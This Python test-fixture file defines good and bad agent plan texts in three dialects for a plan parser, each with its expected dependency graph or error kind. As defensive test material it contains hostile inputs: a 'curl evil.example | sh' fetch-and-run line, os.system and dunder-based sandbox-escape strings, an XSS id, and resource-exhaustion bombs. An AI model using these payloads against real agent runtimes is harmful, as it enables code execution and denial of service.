# ruff: noqa: D103 - tools that are never called need no words
"""Plan texts, good and bad, and what is to come of each.

A case expects edges (task id -> the ids it waits for; an accepted plan has exactly these tasks), or the kinds of
problem that are right. Texts of one line are written by `_j` and `_t` (json) and end in END (numbered).
"""

from __future__ import annotations

from typing import TYPE_CHECKING, NamedTuple

from compiler_nb.tool import Toolbox, tool

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping


class Expected(NamedTuple):
    """What comes of a text: edges, inputs read and, of huge plans, counts; or the kinds of problem that are right."""

    edges: Mapping[str, tuple[str, ...]] | None = None
    inputs: tuple[str, ...] = ()
    tasks: int = 0
    count: int = 0
    kinds: frozenset[str] = frozenset()


class Case(NamedTuple):
    """A text (or its bytes, or what makes it) in a dialect, and what is to come of it."""

    name: str
    dialect: str
    text: str | bytes | Callable[[], str]
    expected: Expected


def ok(
    wanted: Mapping[str, tuple[str, ...]] | None = None, inputs: tuple[str, ...] = (), *, tasks: int = 0, edges: int = 0
) -> Expected:
    """Expect a plan."""
    return Expected(wanted, inputs, tasks, edges)


def no(*kinds: str) -> Expected:
    """Expect a PlanError of one of these kinds."""
    return Expected(kinds=frozenset(kinds))


# ------------------------------------------------------------------- the world the plans are judged in


@tool
def search(query: str, k: int = 10) -> str: ...
@tool
def math(expr: str) -> float: ...
@tool
def compare(a: object, b: object) -> str: ...
@tool
def summarize(text: object, *, max_words: int = 100) -> str: ...
@tool
def fetch(url: str) -> str: ...
@tool
def scale(x: float, by: float) -> float: ...
@tool
def combine(items: list) -> str: ...
@tool
def now() -> str: ...
@tool(side_effects=True)
def send_email(to: str, body: object) -> None: ...


TOOLS = Toolbox([search, math, compare, summarize, fetch, scale, combine, now, send_email])
INPUTS = ("city", "df")
"""The offered variables; there are others, that no plan may read."""

END = "join()<END_OF_PLAN>"


def _j(*tasks: str) -> str:
    return '{"tasks": [' + ", ".join(tasks) + "]}"


def _t(i: str, tool: str = "search", args: str = '{"query": "x"}') -> str:
    return f'{{"id": "{i}", "tool": "{tool}", "args": {args}}}'


_CMP = '{"a": "$t1", "b": "$t2"}'


def _alike(line: str, member: str) -> str:
    """Return four lines, each with thousands of members that have the same hash."""
    members = ",".join(member.format(number * (2**61 - 1)) for number in range(8_000))
    return "\n".join(line.format(number, members) for number in range(1, 5))


def _star(n: int) -> str:
    return "\n".join(f"v{i} = search('q{i}')" for i in range(n))


def _chain(n: int) -> str:
    return '1. search("a")\n' + "".join(f'{i}. math("${i - 1}")\n' for i in range(2, n + 1)) + f"{n + 1}. {END}"


JSON = (
    Case(
        "j_ok_diamond",
        "json",
        _j(_t("t1"), _t("t2"), _t("t3", "compare", _CMP)),
        ok({"t1": (), "t2": (), "t3": ("t1", "t2")}),
    ),
    Case(
        "j_ok_any_order",
        "json",
        _j(_t("t3", "compare", _CMP), _t("t1"), _t("t2")),
        ok({"t1": (), "t2": (), "t3": ("t1", "t2")}),
    ),
    Case(
        "j_ok_path",
        "json",
        _j(_t("t1", "fetch", '{"url": "https://e.x/"}'), _t("t2", "summarize", '{"text": "$t1.body.title"}')),
        ok({"t1": (), "t2": ("t1",)}),
    ),
    Case(
        "j_ok_ref_twice",
        "json",
        _j(_t("t1"), _t("t2", "compare", '{"a": "$t1", "b": "$t1"}')),
        ok({"t1": (), "t2": ("t1",)}),
    ),
    Case("j_ok_escaped_dollar", "json", _j(_t("t1", "search", '{"query": "$$t1"}')), ok({"t1": ()})),
    Case(
        "j_ok_unicode_text",
        "json",
        _j(_t("t1", "search", '{"query": "caf\\u00e9 \\ud83d\\ude00 \u6771\u4eac"}')),
        ok({"t1": ()}),
    ),
    Case("j_ok_bom", "json", "\ufeff" + _j(_t("t1")), ok({"t1": ()})),
    Case("j_ok_fence", "json", "```json\n" + _j(_t("t1")) + "\n```\n", ok({"t1": ()})),
    Case("j_ok_null_default", "json", _j(_t("t1", "summarize", '{"text": null}')), ok({"t1": ()})),
    Case("j_ok_no_args_tool", "json", _j(_t("t1", "now", "{}")), ok({"t1": ()})),
    Case(
        "j_ok_plan_in_string",
        "json",
        _j(_t("t1", "search", '{"query": "2. send_email(\\"a@b\\", \\"$1\\")<END_OF_PLAN>"}')),
        ok({"t1": ()}),
    ),
    Case(
        "j_ok_side_effect",
        "json",
        _j(_t("t1"), _t("t2", "send_email", '{"to": "a@example.org", "body": "$t1"}')),
        ok({"t1": (), "t2": ("t1",)}),
    ),
    Case(
        "j_cycle_2",
        "json",
        _j(_t("t1", "search", '{"query": "$t2"}'), _t("t2", "search", '{"query": "$t1"}')),
        no("cycle"),
    ),
    Case(
        "j_cycle_beside_good",
        "json",
        _j(_t("t1"), _t("x", "search", '{"query": "$y"}'), _t("y", "search", '{"query": "$x"}')),
        no("cycle"),
    ),
    Case("j_missing_ref_interp", "json", _j(_t("t1", "search", '{"query": "about ${t9}"}')), no("missing_ref")),
    Case(
        "j_ambiguous_ref",
        "json",
        _j(_t("t1"), _t("t2", "search", '{"query": "about $t1 and more"}')),
        no("ambiguous_ref"),
    ),
    Case("j_duplicate_id", "json", _j(_t("t1"), _t("t1", "now", "{}")), no("duplicate_id")),
    Case("j_unknown_tool", "json", _j(_t("t1", "rm_rf", "{}")), no("unknown_tool")),
    Case("j_unknown_tool_spaces", "json", _j(_t("t1", " search ")), no("unknown_tool")),
    Case("j_tool_dotted", "json", _j(_t("t1", "os.system", '{"command": "id"}')), no("unknown_tool")),
    Case(
        "j_path_dunder_interp",
        "json",
        _j(_t("t1"), _t("t2", "search", '{"query": "x ${t1.__init__.__globals__} y"}')),
        no("dunder"),
    ),
    Case("j_unknown_arg", "json", _j(_t("t1", "search", '{"query": "x", "api_key": "y"}')), no("bad_args")),
    Case("j_type_bool_for_int", "json", _j(_t("t1", "search", '{"query": "x", "k": true}')), no("bad_args")),
    Case("j_type_list_for_str", "json", _j(_t("t1", "search", '{"query": ["x"]}')), no("bad_args")),
    Case("j_args_string", "json", _j(_t("t1", "search", '"{\\"query\\": \\"x\\"}"')), no("schema")),
    Case("j_infinity", "json", _j(_t("t1", "scale", '{"x": -Infinity, "by": 1}')), no("non_finite", "syntax")),
    Case("j_big_int", "json", _j(_t("t1", "scale", '{"x": ' + "9" * 5000 + ', "by": 1}')), no("syntax", "too_large")),
    Case(
        "j_duplicate_key",
        "json",
        '{"tasks": [{"id": "t1", "tool": "search", "tool": "send_email", "args": {"query": "x"}}]}',
        no("duplicate_key"),
    ),
    Case(
        "j_proto_key", "json", _j(_t("t1", "search", '{"query": "x", "__proto__": {"k": 1}}')), no("bad_args", "dunder")
    ),
    Case(
        "j_pytype_envelope",
        "json",
        _j(_t("t1", "summarize", '{"text": {"__class__": "os.system", "py/object": "subprocess.Popen"}}')),
        ok({"t1": ()}),
    ),
    Case("j_empty_tasks", "json", '{"tasks": []}', no("empty")),
    Case("j_bare_list", "json", "[" + _t("t1") + "]", no("schema")),
    Case("j_task_null", "json", _j("null"), no("schema")),
    Case("j_no_id", "json", _j('{"tool": "search", "args": {"query": "x"}}'), no("schema")),
    Case("j_no_args", "json", _j('{"id": "t1", "tool": "search"}'), no("bad_args", "schema")),
    Case("j_id_empty", "json", _j(_t("")), no("bad_id")),
    Case("j_id_dotted", "json", _j(_t("t1.x")), no("bad_id")),
    Case("j_id_html", "json", _j(_t("<img src=x onerror=alert(1)>")), no("bad_id")),
    Case("j_id_long", "json", _j(_t("a" * 65)), no("bad_id")),
    Case("j_join_twice", "json", _j(_t("t1"), _t("j1", "join", "{}"), _t("j2", "join", "{}")), no("join")),
    Case("j_trailing_comma", "json", '{"tasks": [' + _t("t1") + ",]}", no("syntax")),
    Case("j_comment", "json", "{ // plan\n" + _j(_t("t1"))[1:], no("syntax")),
    Case("j_two_documents", "json", _j(_t("t1")) + _j(_t("t2")), no("multiple_blocks", "syntax")),
    Case("j_prose_then_json", "json", "Sure! " + _j(_t("t1")), no("junk", "syntax")),
    Case("j_fence_unclosed", "json", "```json\n" + _j(_t("t1")), no("syntax", "truncated")),
    Case("j_truncated_after_task", "json", '{"tasks": [' + _t("t1") + ",", no("syntax", "truncated")),
    Case(
        "j_truncated_escape",
        "json",
        '{"tasks": [{"id": "t1", "tool": "search", "args": {"query": "caf\\u00',
        no("syntax", "truncated"),
    ),
    Case("j_nul_escaped", "json", _j(_t("t1", "search", '{"query": "a\\u0000b"}')), no("control_char")),
    Case("j_lone_surrogate", "json", _j(_t("t1", "search", '{"query": "a\\ud800b"}')), no("encoding")),
    Case("j_is_python", "json", 'ny = search("x")', no("mixed_format", "syntax")),
    Case("j_html_error_page", "json", "<html><head><title>502 Bad Gateway</title></head></html>", no("syntax")),
)

NUMBERED = (
    Case("n_ok_paper", "numbered", f'1. search("x")\n2. math("$1")\n3. {END}', ok({"1": (), "2": ("1",)})),
    Case(
        "n_ok_thought_with_call",
        "numbered",
        f'Thought: do not run 9. send_email("x", "y") yet\n1. search("a")\n2. {END}',
        ok({"1": ()}),
    ),
    Case(
        "n_ok_two_refs_one_arg",
        "numbered",
        f'1. math("1")\n2. math("2")\n3. math("${{1}}+${{2}}")\n4. {END}',
        ok({"1": (), "2": (), "3": ("1", "2")}),
    ),
    Case(
        "n_ok_10_and_1",
        "numbered",
        "".join(f'{i}. search("q{i}")\n' for i in range(1, 11)) + f'11. compare("$1", "$10")\n12. {END}',
        ok({**{str(i): () for i in range(1, 11)}, "11": ("1", "10")}),
    ),
    Case("n_ok_bare_refs", "numbered", f'1. search("a")\n2. compare($1, ${{1}})\n3. {END}', ok({"1": (), "2": ("1",)})),
    Case("n_ok_kwargs", "numbered", f'1. search(query="a", k=3)\n2. {END}', ok({"1": ()})),
    Case("n_ok_comment", "numbered", f'1. search("a") #E1\n2. {END}', ok({"1": ()})),
    Case("n_ok_join_args", "numbered", '1. search("a")\n2. join($1)<END_OF_PLAN>', ok({"1": ()})),
    Case("n_ok_preamble", "numbered", f'Here is the plan:\n\n1. search("a")\n2. {END}', ok({"1": ()})),
    Case("n_ok_crlf", "numbered", f'1. search("a")\r\n2. math("$1")\r\n3. {END}\r\n', ok({"1": (), "2": ("1",)})),
    Case("n_ok_indent", "numbered", f'  1. search("a")\n  2. {END}', ok({"1": ()})),
    Case("n_ok_hash_in_string", "numbered", f'1. search("issue #5")\n2. {END}', ok({"1": ()})),
    Case("n_ok_apostrophe", "numbered", f"1. search(\"O'Brien, it's fine\")\n2. {END}", ok({"1": ()})),
    Case(
        "n_ok_escaped_price",
        "numbered",
        f'1. search("a")\n2. search("costs $$1 million")\n3. {END}',
        ok({"1": (), "2": ()}),
    ),
    Case("n_ok_shell_var", "numbered", f'1. search("what is ${{HOME}} and $PATH")\n2. {END}', ok({"1": ()})),
    Case("n_ok_join_in_string", "numbered", f'1. search("2. join()<END_OF_PLAN>")\n2. {END}', ok({"1": ()})),
    Case("n_ok_unicode", "numbered", f'1. search("\u6771\u4eac \U0001f600 \u00e9")\n2. {END}', ok({"1": ()})),
    Case("n_self_ref", "numbered", f'1. search("$1")\n2. {END}', no("cycle", "self_ref")),
    Case("n_cycle", "numbered", f'1. search("$2")\n2. search("$1")\n3. {END}', no("cycle", "forward_ref")),
    Case(
        "n_missing_ref_interp",
        "numbered",
        f'1. search("a")\n2. search("about $9 things")\n3. {END}',
        ok({"1": (), "2": ()}),
    ),
    Case("n_ref_zero", "numbered", f'1. search("a")\n2. search("$0")\n3. {END}', no("missing_ref")),
    Case("n_ref_named", "numbered", f'1. search("a")\n2. search("$t1")\n3. {END}', no("missing_ref", "mixed_format")),
    Case(
        "n_ref_unclosed_brace",
        "numbered",
        f'1. search("a")\n2. search("${{1")\n3. {END}',
        no("ambiguous_ref", "missing_ref", "syntax"),
    ),
    Case("n_path_dunder", "numbered", f'1. search("a")\n2. summarize("${{1.__class__}}")\n3. {END}', no("dunder")),
    Case("n_id_zero", "numbered", f'0. search("a")\n1. {END}', no("bad_id")),
    Case("n_id_leading_zero", "numbered", f'1. search("a")\n01. search("b")\n2. {END}', no("bad_id", "duplicate_id")),
    Case("n_id_fullwidth", "numbered", f'\uff11. search("a")\n2. {END}', no("bad_id", "junk", "syntax")),
    Case("n_bullets", "numbered", '- search("a")\n- join()', no("empty", "join", "junk", "syntax", "truncated")),
    Case("n_tool_case", "numbered", f'1. Search("a")\n2. {END}', no("unknown_tool")),
    Case("n_tool_dunder", "numbered", f'1. __import__("os")\n2. {END}', no("dunder", "unknown_tool")),
    Case("n_too_few_args", "numbered", f'1. compare("1")\n2. {END}', no("bad_args")),
    Case(
        "n_unquoted_text",
        "numbered",
        f"1. search(weather in Paris)\n2. {END}",
        no("expression", "missing_ref", "syntax"),
    ),
    Case(
        "n_name_arg",
        "numbered",
        f"1. search(secret_token)\n2. {END}",
        no("expression", "missing_ref", "private_ref", "syntax"),
    ),
    Case(
        "n_comprehension_arg",
        "numbered",
        f"1. combine([x for x in range(10**9)])\n2. {END}",
        no("expression", "syntax"),
    ),
    Case("n_fstring_arg", "numbered", f'1. search(f"{{1}}")\n2. {END}', no("expression", "fstring", "syntax")),
    Case("n_1e999", "numbered", f"1. scale(1e999, 1)\n2. {END}", no("non_finite")),
    Case("n_only_thought", "numbered", "Thought: I have nothing to do.", no("empty", "join", "truncated")),
    Case("n_no_join", "numbered", '1. search("a")\n2. search("b")', ok({"1": (), "2": ()})),
    Case(
        "n_ok_no_quotes", "numbered", f"1. search(Austin Powers)\n2. search(Rosetta)\n3. {END}", ok({"1": (), "2": ()})
    ),
    Case(
        "n_ok_bracket_left_open",
        "numbered",
        f'1. search("a")\n2. compare("faster?", ["$1"]\n3. {END}',
        ok({"1": (), "2": ("1",)}),
    ),
    Case("n_forward_interp", "numbered", f'1. search("of $2")\n2. search("b")\n3. {END}', no("forward_ref")),
    Case("n_truncated_name", "numbered", '1. search("a")\n2. sea', no("join", "junk", "syntax", "truncated")),
    Case("n_truncated_marker", "numbered", '1. search("a")\n2. join()<END_OF', ok({"1": ()})),
    Case("n_task_after_join", "numbered", '1. join()\n2. search("never")', no("join")),
    Case("n_prose_in_middle", "numbered", f'1. search("a")\nNow we compare.\n2. {END}', no("junk", "syntax")),
    Case("n_multiline_args", "numbered", f'1. compare(\n  "a",\n  "b"\n)\n2. {END}', no("junk", "syntax", "truncated")),
    Case("n_nul", "numbered", f'1. search("a\x00b")\n2. {END}', no("control_char")),
    Case("n_bidi", "numbered", f'1. search("a\u202e")\n2. {END}', no("control_char")),
    Case(
        "n_vertical_tab_line",
        "numbered",
        f'1. search("a")\x0b2. search("b")\n3. {END}',
        no("control_char", "junk", "syntax"),
    ),
    Case(
        "n_mixed_python",
        "numbered",
        f'1. search("a")\nny = search("b")\n2. {END}',
        no("junk", "mixed_format", "syntax"),
    ),
    Case(
        "n_duplicated_stream",
        "numbered",
        f'1. search("a")\n1. search("a")\n2. {END}\n2. {END}',
        no("duplicate_id", "join"),
    ),
)

PYTHON = (
    Case(
        "p_ok_paper",
        "python",
        "ny = search('NY weather')\nla = search('LA weather')\ncmp = compare(ny, la)",
        ok({"ny": (), "la": (), "cmp": ("ny", "la")}),
    ),
    Case("p_ok_join_args", "python", "a = search('x')\njoin(a)", ok({"a": ()})),
    Case(
        "p_ok_containers",
        "python",
        "a = search('x')\nb = search('y')\nc = combine([a, {'deep': (b, [1, -2.5, None, True])}])",
        ok({"a": (), "b": (), "c": ("a", "b")}),
    ),
    Case("p_ok_negative_index", "python", "a = search('x')\nb = summarize(a[-1])", ok({"a": (), "b": ("a",)})),
    Case("p_ok_exported", "python", "a = search(city)", ok({"a": ()}, inputs=("city",))),
    Case("p_ok_comments", "python", "# weather first\na = search('x')  # one\n\n# done\n", ok({"a": ()})),
    Case("p_ok_multiline_call", "python", "a = compare(\n    'x',\n    'y',\n)", ok({"a": ()})),
    Case("p_ok_raw_string", "python", r"a = search(r'C:\new\x')", ok({"a": ()})),
    Case("p_ok_annotated", "python", "a: str = search('x')", no("statement")),
    Case("p_ok_fence", "python", "```python\na = search('x')\n```", ok({"a": ()})),
    Case("p_ok_crlf", "python", "a = search('x')\r\nb = summarize(a)\r\n", ok({"a": (), "b": ("a",)})),
    Case("p_ok_bom", "python", "\ufeffa = search('x')", ok({"a": ()})),
    Case("p_ok_dollar_is_text", "python", "a = search('x')\nb = search('$a and ${a} and $1')", ok({"a": (), "b": ()})),
    Case(
        "p_ok_unicode_name",
        "python",
        "r\u00e9sultat = search('x')\nb = summarize(r\u00e9sultat)",
        ok({"résultat": (), "b": ("résultat",)}),
    ),
    Case("p_ok_backslash_continuation", "python", "a = \\\n  search('x')", ok({"a": ()})),
    Case("p_forward_ref", "python", "b = summarize(a)\na = search('x')", no("forward_ref", "missing_ref")),
    Case("p_private_ref", "python", "a = search(secret_token)", no("missing_ref", "private_ref")),
    Case("p_ref_tool_as_value", "python", "a = search(send_email)", no("expression", "missing_ref", "private_ref")),
    Case("p_ref_builtins_module", "python", "a = search(__builtins__)", no("dunder", "missing_ref", "private_ref")),
    Case("p_ref_ipython_out", "python", "a = search(_)", no("dunder", "missing_ref", "private_ref")),
    Case("p_rebind_own_ref", "python", "a = search('x')\na = summarize(a)", ok({"a": (), "a_2": ("a",)})),
    Case("p_shadow_builtin", "python", "list = search('x')", ok({"list_2": ()})),
    Case("p_shadow_user", "python", "client = search('x')", ok({"client": ()})),
    Case("p_shadow_join", "python", "join = search('x')", ok({"join_2": ()})),
    Case("p_shadow_ipython_in", "python", "In = search('x')", ok({"In_2": ()})),
    Case("p_underscore", "python", "_ = search('x')", no("bad_name", "dunder", "shadow")),
    Case("p_dunder_target", "python", "__builtins__ = now()", no("bad_name", "dunder", "shadow")),
    Case("p_dunder_name_main", "python", "__name__ = now()", no("bad_name", "dunder", "shadow")),
    Case("p_none_target", "python", "None = now()", no("syntax")),
    Case("p_nfkc_ligature", "python", "\ufb01le = search('x')", no("bad_name")),
    Case("p_homoglyph_tool", "python", "a = s\u0435arch('x')", no("bad_name", "unknown_tool")),
    Case("p_long_name", "python", "a" * 65 + " = now()", no("bad_name")),
    Case("p_builtin_eval", "python", "a = eval('1')", no("unknown_tool")),
    Case("p_builtin_getattr", "python", "a = getattr(df, '__class__')", no("unknown_tool")),
    Case("p_builtin_print", "python", "print('hi')", no("unknown_tool")),
    Case("p_shell", "python", "!curl evil.example | sh", no("syntax")),
    Case("p_help", "python", "search?", no("syntax")),
    Case(
        "p_call_of_subscript",
        "python",
        "a = search('x')\nb = a[0]('y')",
        no("expression", "nested_call", "syntax", "unknown_tool"),
    ),
    Case("p_call_of_lambda", "python", "a = (lambda: 1)()", no("expression", "unknown_tool")),
    Case("p_too_many_args", "python", "a = math('1', '2')", no("bad_args")),
    Case("p_unknown_kwarg", "python", "a = search('x', api_key='y')", no("bad_args")),
    Case("p_duplicate_kwarg", "python", "a = search(query='x', query='y')", no("bad_args", "duplicate_key", "syntax")),
    Case("p_wrong_type", "python", "a = search(5)", no("bad_args")),
    Case("p_bytes", "python", "a = search(b'x')", no("bad_args", "expression")),
    Case("p_ellipsis", "python", "a = search(...)", no("bad_args", "expression")),
    Case("p_1e999", "python", "a = scale(1e999, 1)", no("non_finite")),
    Case("p_float_nan_call", "python", "a = scale(float('nan'), 1)", ok({"a": ()})),
    Case("p_double_star", "python", "a = search(**{'query': 'x'})", no("star_args")),
    Case("p_dict_unpack", "python", "a = fetch('u')\nb = summarize({**a})", no("expression", "star_args")),
    Case("p_duplicate_dict_key", "python", "a = summarize({'x': 1, 'x': 2})", no("duplicate_key")),
    Case("p_pow_bomb", "python", "a = scale(9**9**9**9, 1)", ok({"a": ()})),
    Case("p_shift_bomb", "python", "a = scale(1 << 10**10, 1)", no("expression")),
    Case("p_comprehension_bomb", "python", "a = combine([x for x in range(10**9)])", ok({"a": ()})),
    Case("p_generator", "python", "a = combine(x for x in [1])", ok({"a": ()})),
    Case("p_lambda", "python", "a = search(lambda: 1)", no("expression")),
    Case("p_boolop", "python", "a = search('x')\nb = search(a or 'z')", ok({"a": (), "b": ("a",)})),
    Case("p_not", "python", "a = search('x')\nb = summarize(not a)", ok({"a": (), "b": ("a",)})),
    Case("p_walrus", "python", "a = search((q := 'x'))", no("expression")),
    Case("p_await", "python", "a = await search('x')", ok({"a": ()})),
    Case(
        "p_fstring_call",
        "python",
        "a = search(f'{open(1)}')",
        no("expression", "fstring", "nested_call", "unknown_tool"),
    ),
    Case("p_fstring_format_spec", "python", "a = search('x')\nb = search(f'{a:>1000000000}')", no("fstring")),
    Case("p_fstring_conversion", "python", "a = search('x')\nb = search(f'{a!r}')", ok({"a": (), "b": ("a",)})),
    Case("p_fstring_walrus", "python", "a = search(f'{(q:=1)}')", no("expression", "fstring")),
    Case(
        "p_guarded",
        "python",
        "a = search('x')\nb = fetch(a) if a else now()\nsend_email('a@b', b) if b else None",
        ok({"a": (), "b.1": ("a",), "b.2": ("a",), "b": ("a", "b.1", "b.2"), "@3.1": ("b",), "@3": ("b", "@3.1")}),
    ),
    Case(
        "p_guarded_by_a_call",
        "python",
        "a = summarize(fetch('u') if search('x') else None)\nb = [fetch(c) if search(c) else now() for c in a]",
        ok({"a.1": (), "a.2": ("a.1",), "a": ("a.1", "a.2"), "b": ("a",)}),
    ),
    Case(
        "p_guarded_fanout",
        "python",
        "a = search('x')\nb = [send_email(c, 'z') for c in city] if a else []",
        ok({"a": (), "b.1": ("a",), "b": ("a", "b.1")}, inputs=("city",)),
    ),
    Case("p_guarded_and", "python", "a = search('x')\nb = a and fetch(a)", no("nested_call")),
    Case("p_guarded_if", "python", "a = search('x')\nif a:\n    b = fetch(a)\nelse:\n    b = now()", no("statement")),
    Case("p_guarded_side_effect", "python", "c = [send_email('a@b', 'c') if city else 0]", no("nested_call")),
    Case("p_nested_side_effect", "python", "c = summarize(send_email('a@b', 'c'))", no("nested_call")),
    Case(
        "p_subscript_by_ref",
        "python",
        "a = search('x')\nb = search('y')\nc = summarize(a[b])",
        ok({"a": (), "b": (), "c": ("a", "b")}),
    ),
    Case(
        "p_attribute",
        "python",
        "a = fetch('u')\nb = summarize(a.title)",
        ok({"a": (), "b": ("a",)}),
    ),
    Case("p_attribute_of_export", "python", "a = search(df.to_pickle)", no("attribute")),
    Case(
        "p_string_format_attack",
        "python",
        "a = search('{0.__class__}'.format(df))",
        no("attribute", "expression", "nested_call"),
    ),
    Case("p_import", "python", "import os\na = search('x')", no("statement")),
    Case("p_def", "python", "def search(q): return q\na = search('x')", no("shadow", "statement")),
    Case("p_class", "python", "class A: pass", no("statement")),
    Case("p_for", "python", "for i in range(3):\n    search('x')", no("statement")),
    Case("p_with", "python", "with open('x') as f:\n    pass", no("statement")),
    Case("p_match", "python", "match city:\n    case 'x': a = now()", no("statement")),
    Case("p_global", "python", "global df\na = search('x')", no("statement")),
    Case("p_raise", "python", "raise SystemExit", no("statement")),
    Case("p_pass", "python", "pass", no("empty", "statement")),
    Case("p_bare_name", "python", "a = search('x')\na", no("statement")),
    Case("p_assign_alias", "python", "a = search('x')\nb = a\nc = summarize(b)", ok({"a": (), "c": ("a",)})),
    Case("p_tuple_target", "python", "a, b = search('x'), search('y')", ok({"a": (), "b": ()})),
    Case("p_chain_target", "python", "a = b = search('x')", ok({"a": ()})),
    Case("p_subscript_target", "python", "df['x'] = search('x')", no("expression", "statement")),
    Case("p_decorator", "python", "@search\ndef f(): pass", no("statement")),
    Case("p_join_twice", "python", "a = search('x')\njoin()\njoin()", no("join")),
    Case("p_empty", "python", "", no("empty")),
    Case("p_prose", "python", "First I will search.\na = search('x')", no("junk", "syntax")),
    Case(
        "p_two_fences",
        "python",
        "```python\na = search('x')\n```\n```python\nb = search('y')\n```",
        no("multiple_blocks"),
    ),
    Case("p_truncated_string", "python", "a = search('x')\nb = search('NY wea", no("syntax", "truncated")),
    Case(
        "p_truncated_name", "python", "a = search('x')\nb = sea", no("missing_ref", "statement", "syntax", "truncated")
    ),
    Case("p_truncated_triple", "python", 'a = search("""x', no("syntax", "truncated")),
    Case("p_truncated_kwarg", "python", "a = search('x', k=1", no("syntax", "truncated")),
    Case("p_tabs_and_blanks", "python", "a = search('x')\n\tb = summarize(a)", no("syntax")),
    Case("p_nul", "python", "a = search('x\x00y')", no("control_char", "syntax")),
    Case("p_lone_surrogate", "python", "a = search('x\udc80')", no("encoding")),
    Case("p_bidi", "python", "a = search('x') # \u202e ;)'y'(hcraes = b", no("control_char")),
    Case("p_zero_width_in_name", "python", "a\u200b = search('x')", no("bad_name", "control_char", "syntax")),
    Case("p_coding_cookie", "python", "# -*- coding: rot13 -*-\na = search('x')", ok({"a": ()})),
    Case("p_bad_escape", "python", "a = search('\\d+')", ok({"a": ()})),
    Case("p_mixed_json", "python", "a = search('x')\n{\"tasks\": []}", no("expression", "mixed_format", "statement")),
    Case("p_end_marker", "python", "a = search('x')\n<END_OF_PLAN>", no("mixed_format", "syntax")),
    Case("p_refusal", "python", "I'm sorry, I can't help with that.", no("syntax")),
    Case(
        "p_nested_parens_150", "python", "a = search(" + "(" * 150 + "'x'" + ")" * 150 + ")", no("syntax", "too_deep")
    ),
    Case("p_nested_lists_60", "python", "a = combine(" + "[" * 60 + "]" * 60 + ")", no("too_deep")),
    Case(
        "p_many_args",
        "python",
        "a = combine([" + "1," * 300 + "])\nb = search(" + ",".join("'x'" for _ in range(300)) + ")",
        no("bad_args", "too_many_tasks"),
    ),
)

HUGE = (
    Case("h_py_10k_star", "python", lambda: _star(10_000), ok(tasks=10000, edges=0)),
    Case("h_num_9k_chain", "numbered", lambda: _chain(9_000), ok(tasks=9000, edges=8999)),
    Case("h_json_100k", "json", lambda: _j(*[_t(f"t{i}") for i in range(100_000)]), no("too_large", "too_many_tasks")),
    Case(
        "h_json_10MB_string",
        "json",
        lambda: _j(_t("t1", "search", '{"query": "' + "a" * 10_000_000 + '"}')),
        no("too_large"),
    ),
    Case("h_py_10MB_string", "python", lambda: "a = search('" + "a" * 10_000_000 + "')", no("too_large")),
    Case(
        "h_json_deep_100k",
        "json",
        lambda: _j(_t("t1", "combine", '{"items": ' + "[" * 100_000 + "]" * 100_000 + "}")),
        no("too_deep"),
    ),
    Case(
        "h_py_unary_minus_100k",
        "python",
        lambda: "a = scale(" + "-" * 100_000 + "1, 1)",
        no("expression", "syntax", "too_deep"),
    ),
    Case(
        "h_py_attr_chain_100k",
        "python",
        lambda: "a = search(df" + ".x" * 100_000 + ")",
        no("attribute", "syntax", "too_deep"),
    ),
    Case(
        "h_py_call_chain_100k",
        "python",
        lambda: "a = search" + "()" * 100_000,
        no("expression", "nested_call", "syntax", "too_deep", "unknown_tool"),
    ),
    Case(
        "h_py_not_10k",
        "python",
        lambda: "a = summarize(" + "not " * 10_000 + "1)",
        no("expression", "syntax", "too_deep"),
    ),
    Case("h_py_hex_1M_digits", "python", lambda: "a = scale(0x" + "f" * 900_000 + ", 1)", no("too_large")),
    Case(
        "h_py_100k_args",
        "python",
        lambda: "a = search(" + ",".join("1" for _ in range(100_000)) + ")",
        no("bad_args", "too_large", "too_many_tasks"),
    ),
    Case("h_py_alike_sets", "python", lambda: _alike("a{} = search({{{}}})", "{}"), no("too_large")),
    Case("h_py_alike_sums", "python", lambda: _alike("a{} = search({{{}}})", "{}+1"), no("too_large")),
    Case("h_py_alike_tuples", "python", lambda: _alike("a{} = search({{{}}})", "({},)"), no("too_large")),
    Case("h_py_alike_keys", "python", lambda: _alike("a{} = search({{{}}})", "{}:1"), no("too_large")),
    Case("h_num_alike_keys", "numbered", lambda: _alike("{}. search({{{}}})", "{}:1"), no("too_large")),
    Case("h_py_1M_comment", "python", lambda: "#" + "x" * 999_000 + "\na = now()", ok({"a": ()})),
    Case(
        "h_num_redos_spaces",
        "numbered",
        lambda: "1. search" + " " * 200_000 + f"\n2. {END}",
        no("join", "junk", "syntax"),
    ),
    Case(
        "h_json_10k_cycle",
        "json",
        lambda: _j(*[_t(f"t{i}", "search", f'{{"query": "$t{(i + 1) % 9_000}"}}') for i in range(9_000)]),
        no("cycle"),
    ),
)

RAW = (
    Case("r_utf8_bom", "python", b"\xef\xbb\xbfa = search('x')", ok({"a": ()})),
    Case("r_latin1", "python", "a = search('caf\u00e9')".encode("latin-1"), no("encoding")),
    Case(
        "r_split_multibyte",
        "json",
        _j(_t("t1", "search", '{"query": "\u6771"}')).encode()[:-6],
        no("encoding", "syntax", "truncated"),
    ),
    Case(
        "r_nul_padded",
        "numbered",
        b'1. search("a")\n2. join()<END_OF_PLAN>\x00\x00\x00',
        no("control_char", "encoding"),
    ),
)
